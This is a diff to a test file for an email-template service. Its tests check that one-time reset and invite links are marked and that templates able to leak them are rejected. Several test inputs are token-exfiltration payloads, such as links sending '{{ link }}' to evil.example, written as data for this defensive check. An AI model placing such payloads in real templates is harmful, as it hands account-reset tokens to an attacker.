@@ -5,6 +5,7 @@ import { aMail } from '#test/builders/mail'
 import { aUser } from '#test/builders/user'
 import type { Client } from '#test/client'
 import { startTestServer, type TestServer } from '#test/server'
+import { SLOW_TEMPLATE } from '../../platform/mail/testing/slow-template.ts'
 import { purgeOutbox } from './jobs/purge-outbox.ts'
 import { templateIdOf } from './templates/template-id.ts'
 
@@ -173,6 +174,71 @@ describe('words that could not be sent', () => {
     const { body } = await admin.refusal('previewEmailTemplate', { body: { ...words, key: 'nothing' } })
     expect(body.errors).toMatchObject([{ field: 'key' }])
   })
+})
+
+describe('a template with a one-time link', () => {
+  const RESET = templateIdOf('reset-password')
+  const reset = {
+    subject: 'Your new password',
+    template: '<p>Dear {{ firstName }}</p><p><a class="button" href="{{ link }}">Choose</a></p>',
+  }
+
+  it('marks its one-time link in the list of placeholders', async () => {
+    const { body } = await admin.call('getEmailTemplate', { params: { id: RESET } })
+    const marked = body.variables.filter((variable) => variable.isOneTimeLink).map(({ name }) => name)
+    expect(marked).toEqual(['link'])
+  })
+
+  it('is marked for every email that carries a token', async () => {
+    const { body } = await admin.call('listEmailTemplates')
+    const marked = body.filter(({ variables }) => variables.some((variable) => variable.isOneTimeLink))
+    expect(marked.map(({ key }) => key)).toEqual(
+      expect.arrayContaining([
+        'account-exists',
+        'audit-took-place',
+        'confirm-email',
+        'invite-administrator',
+        'invite-auditor',
+        'invite-hotel-user',
+        'reset-password',
+      ]),
+    )
+  })
+
+  it.each([
+    ['subject', { subject: '{{ link | split: "token=" | last }}' }, 'The subject cannot contain a link.'],
+    ['template', { template: '<p>{{ link | split: "token=" | last }}</p>' }, 'cannot be changed or compared'],
+    ['template', { template: '<p>{% assign x = link %}{{ x }}</p>' }, 'cannot use {% assign %}'],
+    ['template', { template: '<p><a href="https://evil.example/?x={{ link }}">x</a></p>' }, 'Please change'],
+    ['template', { template: '<p><a href="https://evil.example/">x</a></p>' }, 'can only lead to'],
+    ['template', { template: '<p>https://evil.example/?x={{ link }}</p>' }, 'Please put a space'],
+  ])('rejects a %s that could leak the link with 422', async (field, wrong, message) => {
+    const error = { field, message: expect.stringContaining(message) }
+    for (const path of ['/api/EmailTemplate/Preview', '/api/EmailTemplate/Test']) {
+      const { status, body } = await admin.post(path, { key: 'reset-password', ...reset, ...wrong })
+      expect([status, body]).toMatchObject([422, { errors: [error] }])
+    }
+    const { body } = await admin.refusal('updateEmailTemplate', {
+      body: { emailTemplateID: RESET, name: 'Reset a password', ...reset, ...wrong },
+    })
+    expect(body.errors).toMatchObject([error])
+  })
+})
+
+it('rejects a template that takes too long with 422 while other requests are served', async () => {
+  let isRejected = false
+  const slow = admin
+    .refusal('previewEmailTemplate', { body: { subject: 'Hello', template: SLOW_TEMPLATE } })
+    .finally(() => {
+      isRejected = true
+    })
+  await admin.call('listOutbox')
+  expect(isRejected).toBe(false)
+  const { status, body } = await slow
+  expect(status).toBe(422)
+  expect(body.errors).toMatchObject([
+    { field: 'template', message: expect.stringContaining('This email takes too long to put together.') },
+  ])
 })
 
 it('shows in the preview what a value says, never what it would do', async () => {
